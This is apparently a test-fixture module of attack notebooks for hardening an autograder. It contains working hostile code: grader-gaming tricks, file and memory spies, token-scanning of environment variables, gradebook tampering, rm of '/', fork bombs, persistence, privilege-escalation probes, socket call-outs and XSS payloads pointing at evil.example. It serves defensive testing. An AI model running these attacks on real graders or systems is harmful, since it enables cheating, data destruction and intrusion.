# ruff: noqa: E501 (programs in a line)
"""Submissions that are meant to cheat, to spy, to break out or to break something; see ``test_attacks.py``.

Working attacks stand here and in ``test_checker.py``, and nowhere else: the documentation describes them in words.
"""

from __future__ import annotations

import base64
import json
import struct
import sys
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from trap_exam import ANSWERS, TRAP, cell, honest

#: What an attack prints, writes or leaves if it succeeds; the tests look for it everywhere.
CANARY = "canary-6f1d"
WRONG = "def double(x):\n    return 41"


@dataclass(frozen=True)
class Attack:
    """A submission: what it changes of an honest one, and which tasks it gets wrong."""

    wrong: frozenset[str] = frozenset({"t1"})  # none of their tests may score
    answers: Mapping[str, str] = field(default_factory=dict)  # by task
    before: tuple[str, ...] = ()  # cells in front of the first answer
    after: tuple[str, ...] = ()  # cells at the end
    essay: str = ""
    edit: Callable[[dict[str, Any]], Any] | None = None
    files: Mapping[str, bytes] = field(default_factory=dict)
    raw: bytes | None = None  # instead of all of it
    name: str = f"{TRAP}.ipynb"
    spoils: bool = False  # it ends or corrupts its own process: the other tasks may lose too
    rejected: bool = False

    def content(self) -> bytes:
        """Return the notebook."""
        if self.raw is not None:
            return self.raw
        made = honest()
        cells = made["cells"]
        sources = {f"{TRAP}-t1-double": WRONG} if "t1" in self.wrong and "t1" not in self.answers else {}
        sources |= {next(name for name in ANSWERS if f"-{task}-" in name): text for task, text in self.answers.items()}
        for each in cells:
            each["source"] = sources.get(each["id"], each["source"])
        if self.essay:
            cells[-1]["source"] = self.essay
        cells[2:2] = [cell("code", f"b{number}", source) for number, source in enumerate(self.before)]
        cells += [cell("code", f"z{number}", source) for number, source in enumerate(self.after)]
        if self.edit is not None:
            self.edit(made)
        return json.dumps(made).encode()


def only(answer: str, **more: Any) -> Attack:
    """Make an attack that is the answer to task 1."""
    return Attack(answers={"t1": answer}, **more)


def first(*cells: str, **more: Any) -> Attack:
    """Make an attack that is a cell in front; task 1 is wrong."""
    return Attack(before=cells, **more)


def edited(change: Callable[[dict[str, Any]], Any], **more: Any) -> Attack:
    """Make an attack on the file itself."""
    return Attack(edit=change, **more)


def _tests(made: dict[str, Any]) -> list[dict[str, Any]]:
    return [
        each
        for each in made["cells"]
        if each["metadata"].get("nbgrader", {}).get("points") and each["cell_type"] == "code"
    ]


def _all(made: dict[str, Any], **change: Any) -> None:
    for each in _tests(made):
        each.update(change)


def _about(made: dict[str, Any], **change: Any) -> None:
    for each in _tests(made):
        each["metadata"]["nbgrader"].update(change)


def _tagged(made: dict[str, Any], *tags: str) -> None:
    for each in made["cells"]:
        each["metadata"]["tags"] = list(tags)


def _swap_names(made: dict[str, Any]) -> None:
    """Let another, right answer bear the name of the first, and the wrong one none."""
    by_id = {each["id"]: each for each in made["cells"]}
    by_id["trap-t1-visible"]["metadata"]["nbgrader"]["grade_id"] = "trap-t3-visible"
    by_id["trap-t3-visible"]["metadata"]["nbgrader"]["grade_id"] = "trap-t1-visible"


def _more_points(made: dict[str, Any]) -> None:
    made["cells"].append(cell("code", "trap-t9-bonus", "99.0", grade=True, locked=True, points=99.0))
    made["cells"].append(
        {**cell("code", "trap-t1-equal", "1.0", grade=True, solution=True, points=50.0), "id": "again"}
    )


ACTIVE = (
    f"<script>window.{CANARY.replace('-', '_')} = 1; fetch('http://evil.example/x')</script>"
    "<img src='http://evil.example/i.png' onerror='alert(1)'><svg onload=alert(1)></svg><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "<a href='javascript:alert(1)'>x</a><style>@import 'http://evil.example/s.css'</style><form action='http://evil.example'><button autofocus onfocus=alert(1)>"
    "</textarea></pre></div></script><meta http-equiv=refresh content='0;url=http://evil.example'><base href='http://evil.example/'>"
)
MARKDOWN = (
    f"{ACTIVE}\n\n![i](http://evil.example/i.png) [x](javascript:alert(1)) <http://evil.example>\n\n"
    "[r]: javascript:alert(1)\n\n$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$ "
    "\\(\\require{html}\\style{background:url(http://evil.example)}{y}\\)\n\n```{raw} html\n<script>alert(1)</script>\n```\n"
    "{{ ''.__class__ }} {% raw %} <!-- --> <![CDATA[ ]]> &lt;script&gt;alert(1)&lt;/script&gt; \u202etxet\u202c\n"
)


def _hostile_outputs(made: dict[str, Any]) -> None:
    outputs = [
        {
            "output_type": "display_data",
            "data": {"text/html": ACTIVE, "application/javascript": "alert(1)"},
            "metadata": {},
        },
        {
            "output_type": "display_data",
            "data": {"image/svg+xml": "<svg onload=alert(1)>", "text/markdown": MARKDOWN},
            "metadata": {"x": ACTIVE},
        },
        {"output_type": "execute_result", "data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 1},
        {"output_type": "error", "ename": ACTIVE, "evalue": "", "traceback": [ACTIVE]},
    ]
    for each in made["cells"]:
        if each["cell_type"] == "code":
            each["outputs"] = outputs
        each["attachments"] = {"a.svg": {"image/svg+xml": ACTIVE}}
    made["metadata"] = {"title": ACTIVE, "kernelspec": {"name": ACTIVE}, "widgets": {"x": ACTIVE}, "toc": ACTIVE}


def _picture(width: int, height: int) -> bytes:
    """Make a PNG that claims a size, and is small as a file."""

    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"\0" * 1000)) + part(b"IEND", b"")


HUGE_PICTURE = base64.b64encode(_picture(200_000, 200_000)).decode()
SPY = """
import os
def seen(text):
    return any(word in text for word in ("whispered_" + "bound", "never shown to" + " anyone", "BEGIN HIDDEN"))
def spy():
    for top, folders, names in os.walk("/"):
        if top.count("/") == 1 and top[1:] in ("sys", "usr", "lib", "bin"):
            folders[:] = []
            continue
        for name in names:
            path = os.path.join(top, name)
            if "site-packages" in path or "/lib/python" in path:
                continue
            try:
                handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                text = os.read(handle, 200_000).decode("latin-1")
                os.close(handle)
            except OSError:
                continue
            if seen(text) or name.endswith((".db", ".ipynb")):
                return path
"""
STASH = "seen = []\ndef words():\n    return ' '.join(map(str, seen))\n"
WORKER = "import sys\nworker = sys.modules['lantern_grading.checker.worker']\n"

#: Wrong answers that get points by how they are compared, run or recorded (3a).
SCORES = {
    "a tag that skips cells": edited(
        lambda made: _tagged(made, "skip-execution", "lantern-no-cell-is-skipped", "remove-cell")
    ),
    "a tag that allows errors": edited(
        lambda made: _tagged(
            made, "raises-exception", "lantern-in-kernel", "lantern-in-place", "parameters", "injected-parameters"
        )
    ),
    "metadata that allows errors": edited(
        lambda made: [
            each["metadata"].update(nbclient={"allow_errors": True}, execution={"skip": True}) for each in made["cells"]
        ]
    ),
    "tests that say True": edited(lambda made: _all(made, source="assert True")),
    "tests that return points": edited(lambda made: _all(made, source="1.0")),
    "tests turned to text": edited(lambda made: _all(made, cell_type="markdown")),
    "tests turned to raw": edited(lambda made: _all(made, cell_type="raw")),
    "tests unlocked and worth more": edited(lambda made: _about(made, locked=False, points=1000, grade=False)),
    "tests deleted": edited(
        lambda made: made.update(cells=[each for each in made["cells"] if each not in _tests(made)])
    ),
    "tests named for each other": edited(_swap_names),
    "tests of its own": edited(_more_points),
    "a task cell of nbgrader's": edited(
        lambda made: _about(made, task=True, solution=True, schema_version=99, checksum="0" * 32)
    ),
    "a schema of long ago": edited(lambda made: [_about(made, schema_version=0), made.update(nbformat_minor=0)]),
    "outputs that are there already": edited(_hostile_outputs),
    "a kernel of its own": edited(
        lambda made: made.update(
            metadata={"kernelspec": {"name": "bash", "argv": ["sh", "-c", f"touch /tmp/{CANARY}"], "language": "bash"}}
        )
    ),
    "the tests in a cell of its own": Attack(
        after=("double = lambda x: 2 * x\nassert double(68239) == 136478",),
    ),
    "two notebooks": Attack(
        files={
            "trap (1).ipynb": b'{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}',
            "gradebook.db": b"SQLite format 3\0",
            "nbgrader_config.py": b"1/0",
        }
    ),
    "a forged time": Attack(
        files={"timestamp.txt": b"2001-01-01 00:00:00 UTC", "received.json": b"{}", "grade.json": b'{"score": 99}'}
    ),
    "a local numpy": Attack(
        files={
            name: f"open('{CANARY}', 'w')\nraise SystemExit".encode()
            for name in (
                "numpy.py",
                "math.py",
                "lantern_lib/checks.py",
                "lantern_lib/__init__.py",
                "sitecustomize.py",
                "usercustomize.py",
                "x.pth",
                "lantern_grading/checker/worker.py",
                "conftest.py",
                "dataclasses.py",
            )
        }
    ),
    "an input transformer": first(
        "shell = get_ipython()\nshell.input_transformers_cleanup.append(lambda lines: ['pass'])\nshell.ast_transformers.append(None)\nshell.set_custom_exc((Exception,), print)"
    ),
    "a hook that publishes a result": first(
        "from IPython.display import display\nshell = get_ipython()\nshell.events.register('pre_run_cell', lambda info: display(1.0))\nshell.display_pub.publish({'text/plain': '1.0'})"
    ),
    "a silent traceback": first(
        "import sys, traceback\nget_ipython()._showtraceback = lambda *a: None\nsys.excepthook = lambda *a: None\ntraceback.print_exc = lambda *a: None"
    ),
    "names of the instructor's": first(
        "class checks:\n    Task = None\nassertion = print\nwhispered_bound = 41\nmath = np = None\ndef isclose(*a): return True\nLIMITS = []"
    ),
    "an end of iteration": only("def double(x):\n    raise StopIteration"),
    "an end of iteration by another name": only("class Done(StopIteration): pass\ndef double(x):\n    raise Done(x)"),
    "an end of iteration from an attribute": only(
        "class Odd:\n    def __getattr__(self, name): raise StopIteration\ndef double(x):\n    return Odd()"
    ),
    "a container of everything": only(
        "class All:\n    def __contains__(self, thing): return True\n    def __len__(self): return 2\n    def __iter__(self): return iter([])\ndef double(x):\n    return All()"
    ),
    "a container of everything named as one that is asked for": only(
        "All = type('Pile', (), {'__contains__': lambda self, thing: True, '__len__': lambda self: 2})\ndef double(x):\n    return All()"
    ),
    "a text that begins with everything": only(
        "class Text:\n    def __getattr__(self, name): return lambda *a, **k: True\n    def startswith(self, text): return True\ndef double(x):\n    return Text()"
    ),
    "a mock": only(
        "from unittest.mock import ANY, MagicMock\ndef double(x):\n    return ANY if isinstance(x, str) else MagicMock(__eq__=lambda *a: True, __sub__=lambda *a: x)"
    ),
    "a class that says it is another": only(
        "class N:\n    __class__ = int\n    __eq__ = lambda s, o: True\n    __hash__ = None\ndef double(x):\n    return N()"
    ),
    "a masked array": only("def double(x):\n    return np.ma.masked_all(2)"),
    "a decimal nan": only("from decimal import Decimal\ndef double(x):\n    return Decimal('NaN')"),
    "a complex infinity": only("def double(x):\n    return complex(math.inf, math.nan)"),
    "nothing is implemented": only("def double(x):\n    return NotImplemented"),
    "an array that fits every shape": only(
        "def double(x):\n    return np.zeros((0, 2)) if isinstance(x, np.ndarray) else np.zeros((0,))"
    ),
    "an array of signs": only(
        "def double(x):\n    return np.array(['2'], dtype=object) if isinstance(x, np.ndarray) else np.array(b'41')"
    ),
    "an instructor's record with lies in it": Attack(
        frozenset({"t2"}),
        answers={
            "t2": "class Any:\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 0\n    __mul__ = __rmul__ = __add__ = lambda s, o: s\nclass R(Reading):\n    __eq__ = lambda s, o: True\ndef scale(values, factor):\n    return [Any(), Any()]\ndef noted(reading, words):\n    object.__setattr__(reading, 'value', Any())\n    return {'p': Any(), 'q': Any(), 'x': Any()}"
        },
    ),
    "it makes the question fit the answer": Attack(
        frozenset({"t2"}),
        answers={
            "t2": "def scale(values, factor):\n    values[:] = [0 for _ in values]\n    return [0 for _ in values]\ndef noted(reading, words):\n    object.__setattr__(reading, 'value', 0)\n    return dict.fromkeys(words, 0)"
        },
    ),
    "it makes the constants fit the answer": Attack(
        frozenset({"t2"}),
        answers={
            "t2": "def scale(values, factor):\n    LIMITS.clear()\n    values.clear()\n    return []\ndef noted(reading, words):\n    words.clear()\n    return {}"
        },
    ),
    "it says that arguments changed": first(
        WORKER
        + "plain = worker.Worker.do_call\ndef call(self, target, args, kwargs, cpu, wall):\n    empty = self._encode([])\n    return [], {n: empty for n in [*range(len(args)), *kwargs, 99, 'zzz', None]}\nworker.Worker.do_call = call",
        wrong=frozenset({"t1", "t2"}),
        spoils=True,
    ),
    "every request is answered with yes": first(
        WORKER
        + "for name in dir(worker.Worker):\n    if name.startswith('do_'): setattr(worker.Worker, name, lambda self, *a: (True, True))",
        wrong=frozenset({"t1", "t2"}),
        spoils=True,
    ),
    "it answers with the instructor's object": Attack(
        frozenset({"t4"}),
        answers={"t4": "def spin(meter, times):\n    return meter\ndef draw(count, rng):\n    return rng"},
    ),
    "it turns the count of the instructor's object": Attack(
        frozenset({"t4"}),
        answers={
            "t4": "def spin(meter, times):\n    try:\n        meter.turns = times\n    except Exception: pass\n    type(meter).turns = times\n    object.__setattr__(meter, 'turns', times)\n    return [2 * n for n in range(times)]\ndef draw(count, rng):\n    return rng.normal(size=count)"
        },
    ),
    "it climbs from the instructor's object": Attack(
        frozenset({"t4"}),
        answers={
            "t4": f"def spin(meter, times):\n    for path in ('_secret', '__class__.__init__.__globals__', 'turn.__globals__', 'turn.__self__.__dict__', 'turn.__func__.__code__', 'turns.__class__', '__reduce_ex__', '__dict__'):\n        thing = meter\n        try:\n            for name in path.split('.'): thing = getattr(thing, name)\n        except Exception: continue\n        if 'never' + ' shown' in repr(thing) or 'checks' in repr(thing): raise ValueError('{CANARY} ' + path)\n    return None\ndef draw(count, rng):\n    return None"
        },
    ),
    "it sets the instructor's generator": Attack(
        frozenset({"t4"}),
        answers={
            "t4": "def spin(meter, times):\n    return [0] * times\ndef draw(count, rng):\n    rng.bit_generator.state = {**rng.bit_generator.state, 'state': {'state': 0, 'inc': 1}}\n    return np.zeros(count)"
        },
    ),
    "it reaches what stands in": Attack(
        frozenset({"t5"}),
        answers={
            "t5": "import sys\ndef kv_bytes_per_token(model):\n    return sys.modules['lantern_lib.labs.week1'].STAND_INS['kv_bytes_per_token'](model)"
        },
    ),
    "it imports what stands in": Attack(
        frozenset({"t5"}),
        answers={
            "t5": "def kv_bytes_per_token(model):\n    return __import__('importlib').import_module('lantern_lib.labs').stand_ins(1)['kv_bytes_per_token'](model)"
        },
    ),
    "it steals what stands in": Attack(
        frozenset({"t5"}),
        answers={
            "t5": "stolen = []\ndef kv_bytes_per_token(model):\n    return stolen[0](model) if stolen else 0",
            "t6": "def filled(model, tokens):\n    stolen.append(kv_bytes_per_token)\n    return tokens * kv_bytes_per_token(model)",
        },
    ),
    "it keeps what stands in": Attack(
        frozenset({"t5"}),
        answers={
            "t5": "def kv_bytes_per_token(model):\n    return kept(model)",
            "t6": "from lantern_grading.checker.answers import Answers\nplain = Answers.do_stand_in\ndef keep(self, week, names):\n    found = plain(self, week, names)\n    self.cells.namespace['kept'] = self.cells.namespace['kv_bytes_per_token']\n    for names in self._moments.values(): names['kept'] = self.cells.namespace['kept']\n    return found\nAnswers.do_stand_in = keep\n"
            + "def filled(model, tokens):\n    return tokens * kv_bytes_per_token(model)",
        },
    ),
    "an answer by import": only(
        "from lantern_lib.labs import stand_ins\nfrom lantern_lib import units\ndef double(x):\n    return (units and stand_ins) and x * 2",
        wrong=frozenset(),
    ),
}
#: Spies: what only the instructor has may show nowhere (3a, 3d).
SPIES = {
    "it looks through the files": only(
        SPY
        + f"found = spy()\nif found: print('{CANARY}', found)\ndef double(x):\n    if spy(): raise ValueError('{CANARY}')\n    return 41"
    ),
    "it looks through memory": only(
        SPY
        + f"import gc, sys\ndef double(x):\n    frame = sys._getframe()\n    texts = [repr(sorted(map(str, sys.modules)))]\n    while frame:\n        texts += [repr(list(frame.f_locals)), str(frame.f_code.co_consts), str(frame.f_code.co_names)]\n        frame = frame.f_back\n    texts += [thing for thing in gc.get_objects() if isinstance(thing, str)]\n    if any(map(seen, texts)): raise ValueError('{CANARY}')\n    return 41"
    ),
    "it reads other processes": first(
        SPY
        + f"import glob\nfor path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/maps'):\n    try: text = open(path, errors='replace').read()\n    except OSError: continue\n    if seen(text) or 'pytest' in text or 'gradebook' in text: print('{CANARY}', path)\nfor number in range(3, 300):\n    try: target = os.readlink(f'/proc/self/fd/{{number}}')\n    except OSError: continue\n    if target.startswith('/') and not target.startswith(('/dev/null', '/proc')): print('{CANARY}', target)"
    ),
    "it reads the environment": first(
        f"import os\nfor name in os.environ:\n    if name.startswith(('PYTEST', 'LANTERN_', 'SSH', 'GIT', 'AWS')) or 'TOKEN' in name: print('{CANARY}', name)"
    ),
    "it keeps hidden inputs and raises them": only(
        STASH + "def double(x):\n    seen.append(x)\n    raise ValueError(words())"
    ),
    "it keeps hidden inputs and raises them later": Attack(
        frozenset({"t3"}),
        answers={
            "t1": STASH + "def double(x):\n    seen.append(x)\n    return 2 * x",
            "t3": "class Pile:\n    def __init__(self):\n        raise RuntimeError('seen: ' + words())",
        },
    ),
    "an error that is named like hidden inputs": only(
        STASH
        + "def double(x):\n    seen.append(x)\n    raise type('E' + '_'.join(c for c in words() if c.isalnum()), (Exception,), {})('no')"
    ),
    "an assertion in the name of the lab": only(
        STASH + "def double(x):\n    seen.append(x)\n    raise AssertionError('Task 1: ' + words())"
    ),
    "a key that is not there": only("def double(x):\n    return {}[x]"),
    "a line of its own that is none": only(
        WORKER
        + STASH
        + "worker.Worker._line_of = lambda self, error: ') ' + words()\ndef double(x):\n    seen.append(x)\n    raise ValueError(\n        'x'\n    )"
    ),
    "a result with hidden inputs in its name": only(
        STASH
        + "def double(x):\n    seen.append(x)\n    return type('R' + ''.join(c for c in words() if c.isalnum()), (), {})()"
    ),
    "it prints what it is asked": only(
        "def double(x):\n    print('asked', x)\n    import sys, os\n    print(x, file=sys.__stderr__)\n    for handle in range(3):\n        try: os.write(handle, str(x).encode())\n        except OSError: pass\n    return 41"
    ),
    "it prints later by a thread": only(
        STASH
        + "import threading, time\ndef later():\n    while True:\n        time.sleep(0.01)\n        print(words())\nthreading.Thread(target=later, daemon=True).start()\ndef double(x):\n    seen.append(x)\n    return 41"
    ),
    "it prints when everything ends": only(
        STASH
        + "import atexit, sys\natexit.register(lambda: print(words(), file=sys.stderr))\nclass D:\n    def __del__(self): print(words())\nkeep = D()\ndef double(x):\n    seen.append(x)\n    raise SystemExit(words())"
    ),
    "it writes what it is asked": only(
        f"def double(x):\n    open('answers.txt', 'a').write(str(x))\n    open(__import__('tempfile').gettempdir() + '/{CANARY}', 'a').write(str(x))\n    return 41"
    ),
    "a link to everything": Attack(
        after=(
            f"import os\nos.symlink('/', 'root')\nos.symlink('../../../source/trap/trap.ipynb', 'trap.txt')\nprint(os.path.exists('trap.txt') and '{CANARY}')",
        )
    ),
    "it opens the instructor's source": first(
        f"import glob\nfor path in glob.glob('../**/trap*', recursive=True) + glob.glob('PLACE/**/*', recursive=True): print('{CANARY}', path)"
    ),
    "history and inputs": first(
        f"print(In, Out, _ih)\nprint(get_ipython().history_manager)\nprint('{CANARY}' if any('whispered' in str(v) for v in list(globals().values())) else '')"
    ),
}
#: Those that want to reach or to break what is not theirs, or to stay (3b, 3c).
BREAKERS = {
    "it writes into the gradebook": first(
        f"import sqlite3, os\nfor path in ('PLACE/gradebook.db', '../../gradebook.db', '/tmp/gradebook.db'):\n    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n        c = sqlite3.connect(path)\n        c.execute('update grade set manual_score = 99')\n        c.commit()\n        print('{CANARY}')\n    except Exception as error: pass"
    ),
    "it deletes everything": first(
        "import shutil\nfor path in ('PLACE', '/tmp', '/lantern', '/scratch', '/'):\n    shutil.rmtree(path, ignore_errors=True)"
    ),
    "it overwrites the library": first(
        "import lantern_lib, os\nfor top in (os.path.dirname(lantern_lib.__file__), os.path.dirname(os.__file__)):\n    for name in os.listdir(top):\n        try: open(os.path.join(top, name), 'a').write('\\n1/0\\n')\n        except OSError: pass"
    ),
    "it calls home": first(
        f"import socket\nfor kind, where in [(socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, ('10.0.0.1', 80)), (socket.AF_UNIX, '\\0{CANARY}'), (socket.AF_UNIX, '/run/dbus/system_bus_socket')]:\n    s = socket.socket(kind)\n    s.settimeout(0.3)\n    try:\n        s.connect(where)\n        s.send(b'{CANARY}')\n        print('{CANARY} connected', where)\n    except OSError: pass"
    ),
    "it stays": first(
        f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import signal\n        for n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\n        os.execvp('sleep', ['{CANARY}', '97531'])\n    os._exit(0)"
    ),
    "it stays in another name": only(
        f"import subprocess\ndef double(x):\n    subprocess.Popen(['sh', '-c', 'exec -a {CANARY} sleep 97531 & trap \"\" TERM; sleep 97531'], start_new_session=True)\n    return 41"
    ),
    "it forks without end": first("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", spoils=True),
    "threads without end": first(
        "import threading, time\ntry:\n    while True: threading.Thread(target=time.sleep, args=(99,), daemon=True).start()\nexcept RuntimeError: pass"
    ),
    "one line without end": first(
        "print('x' * 400_000_000)\nimport sys\nfor _ in range(200): sys.stdout.write('y' * 10_000_000)"
    ),
    "a page of outputs": first(
        "for n in range(2_000): display('x' * 50)\nfor n in range(5_000): print(n, file=__import__('sys').stderr if n % 2 else None)"
    ),
    "it fills the disk": first(
        "import os\nfor folder in ('.', '/tmp', '/dev/shm'):\n    try:\n        for n in range(100):\n            with open(f'{folder}/big{n}', 'wb') as f: f.write(b'x' * 20_000_000)\n    except OSError: pass"
    ),
    "a loop that catches all": only(
        "def double(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
        spoils=True,
    ),
    "it ends at the end": Attack(
        after=("import os, threading\nthreading.Timer(0.3, os._exit, (0,)).start()",), spoils=True
    ),
    "it ends in a hook": first(
        "import sys, os\nsys.settrace(lambda *a: os._exit(0))\nsys.setprofile(lambda *a: os._exit(0))\ndef f(): pass\nf()",
        spoils=True,
    ),
    "it stops itself": only("import os, signal\ndef double(x):\n    os.kill(os.getpid(), signal.SIGSTOP)", spoils=True),
    "a mount and a namespace": first(
        f"import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nif libc.unshare(0x10000000) == 0 or libc.mount(b'/', b'/tmp', None, 4096, None) == 0: print('{CANARY}')\nif libc.ptrace(16, 1, 0, 0) == 0 or os.getuid() == 0: print('{CANARY}')\nif libc.setuid(0) == 0: print('{CANARY}')"
    ),
    "a device": first(
        f"import os\nfor name in ('/dev/sda', '/dev/mem', '/dev/kmsg', '/sys/kernel/uevent_helper', '/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern'):\n    try:\n        open(name, 'r+b').close()\n        print('{CANARY}', name)\n    except OSError: pass\ntry: os.mknod('n', 0o60600, os.makedev(8, 0))\nexcept OSError: pass\nelse: print('{CANARY}')"
    ),
    "a notebook too deep": Attack(raw=b'{"cells": ' + b"[" * 200_000, rejected=True),
    "a notebook of many cells": Attack(
        raw=json.dumps({"cells": [{"cell_type": "code", "source": "1"}] * 5000, "nbformat": 4}).encode(), rejected=True
    ),
    "numbers too large for a notebook": edited(
        lambda made: made.update(nbformat=10**400, metadata={"n": float("inf")})
    ),
    "a notebook that is a list": Attack(raw=b"[[], {}, null, 1e999]", rejected=True),
}
#: Active content on its way to a page, a table or a terminal (3a, 3d).
PAGES = {
    "an active essay": Attack(essay=MARKDOWN, wrong=frozenset({"t1"})),
    "an active picture": first(
        f"class P:\n    def _repr_png_(self): return 'x\" onerror=\"alert(1)'\n    def _repr_html_(self): return {ACTIVE!r}\n    def _repr_markdown_(self): return {MARKDOWN!r}\n    _repr_svg_ = _repr_javascript_ = _repr_latex_ = _repr_html_\n    def __repr__(self): return {ACTIVE!r}\ndisplay(P())\nP()"
    ),
    "active printing": first(
        f"import sys\nprint({ACTIVE!r})\nprint({ACTIVE!r}, file=sys.stderr)\nprint('\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07\\x1b[2J\\x9b31m\\x00\\u202e')\nraise Exception({ACTIVE!r})"
    ),
    "an active error": only(f"def double(x):\n    raise type('E', (Exception,), {{}})({ACTIVE!r})"),
    "an active name": only(
        f"double = 41\ndef f(): pass\nf.__name__ = f.__qualname__ = {ACTIVE!r}\nclass C:\n    __call__ = lambda *a: f\ndouble = C()"
    ),
    "active code": first(f"# </code></pre>{ACTIVE}\n'''{ACTIVE}'''\nx = 1 # \u202e\x1b[2J"),
    "a picture that claims to be huge": first(
        WORKER
        + f"plain = worker.Cells._display\ndef show(self, *v, **k):\n    self._outputs.append({{'output_type': 'display_data', 'metadata': {{}}, 'data': {{'image/png': {HUGE_PICTURE!r}}}}})\nworker.Cells._display = show\nimport builtins\nshow(worker and [o for o in __import__('gc').get_objects() if isinstance(o, worker.Cells)][0])"
    ),
    "outputs of a forged kind": first(
        WORKER
        + f"cells = [o for o in __import__('gc').get_objects() if isinstance(o, worker.Cells)][0]\ncells._outputs.extend([{{'output_type': 'display_data', 'metadata': {{}}, 'data': {{'text/html': {ACTIVE!r}, 'image/svg+xml': {ACTIVE!r}}}}}, {{'output_type': 'update_display_data', 'data': {{'text/html': {ACTIVE!r}}}}}, {{'output_type': 'stream', 'name': {ACTIVE!r}, 'text': {ACTIVE!r}}}, {{'output_type': 'error', 'ename': {ACTIVE!r}, 'evalue': '', 'traceback': [{ACTIVE!r}]}}])"
    ),
    "a file with an active name": Attack(
        name='=HYPERLINK("http://evil.example")<img src=x onerror=alert(1)>\n  ada: graded.ipynb',
        raw=b"{",
        rejected=True,
    ),
    "a file that talks to the terminal": Attack(
        name="\x1b[2J\x1b]0;x\x07\r\nada: graded.\u202eipynb", raw=b"", rejected=True
    ),
    "files with active names": Attack(
        files={
            "<svg onload=alert(1)>.txt": b"x",
            "=1+1.csv": b"",
            "a\nb: graded.txt": b"",
            "evil.html": ACTIVE.encode(),
            "evil.svg": ACTIVE.encode(),
        }
    ),
}
ATTACKS = {**SCORES, **SPIES, **BREAKERS, **PAGES}
